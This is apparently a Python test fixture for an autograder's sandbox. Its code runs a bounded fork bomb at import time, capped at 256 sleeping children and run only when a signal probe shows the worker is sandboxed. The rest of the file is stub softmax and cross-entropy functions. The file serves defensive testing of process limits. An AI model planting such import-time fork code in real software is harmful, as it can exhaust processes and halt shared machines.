"""Attack: a fork bomb at import.

Tries: fork until fork fails; each child runs on as a process marked dlgrade-survivor-fork_bomb
(or named dlgrade-survivor where exec is denied), so the test can find one that survives.
Would gain: nothing for itself; the machine runs out of processes and everyone's grading
stops.
Must stop it: a limit on the worker's processes (seccomp or a pids cgroup; the kernel
never applies RLIMIT_NPROC to uid 0), and the whole tree killed when the worker ends.
GUARDED and BOUNDED: it runs only where _no_one_else_to_signal() shows the worker is
sandboxed, and stops after 256 children, so that a missing limit cannot take the machine
down; unsandboxed it does nothing and grades like its twin.
"""

import ctypes
import os
import sys
import time


def _no_one_else_to_signal() -> bool:
    """True only if os.kill(-1, ...) can reach no process but this one.

    Signal 0 checks permissions without sending anything: if no other process may be
    signalled (ESRCH, or EPERM from a sandbox that scopes signals), SIGKILL to -1 harms
    nobody. Unsandboxed it succeeds (as root it reaches every process of the machine), and
    the attack does nothing.
    """
    try:
        os.kill(-1, 0)
    except OSError:
        return True
    return False


def _become_survivor(marker: str) -> None:
    """Run on as a sleeping process with ``marker`` in its command line, never returning.

    Where exec is denied, sleep in place under the process name dlgrade-survivor instead.
    """
    try:
        os.execv(sys.executable, [sys.executable, "-S", "-c", "import time; time.sleep(300)", marker])
    except OSError:
        try:
            ctypes.CDLL(None).prctl(15, b"dlgrade-survivor", 0, 0, 0)  # PR_SET_NAME
        except (OSError, AttributeError):
            pass
        time.sleep(300)
    finally:
        os._exit(0)


def _bomb() -> None:
    for _ in range(256):
        try:
            pid = os.fork()
        except OSError:
            return
        if pid == 0:
            _become_survivor("dlgrade-survivor-fork_bomb")


if _no_one_else_to_signal():
    _bomb()


def softmax(O):
    raise NotImplementedError


def cross_entropy(y_hat, y):
    raise NotImplementedError


def softmax_cross_entropy(O, y):
    raise NotImplementedError


def softmax_cross_entropy_grad(O, y):
    raise NotImplementedError


def accuracy(y_hat, y):
    return float((y_hat.argmax(dim=1) == y).double().mean())
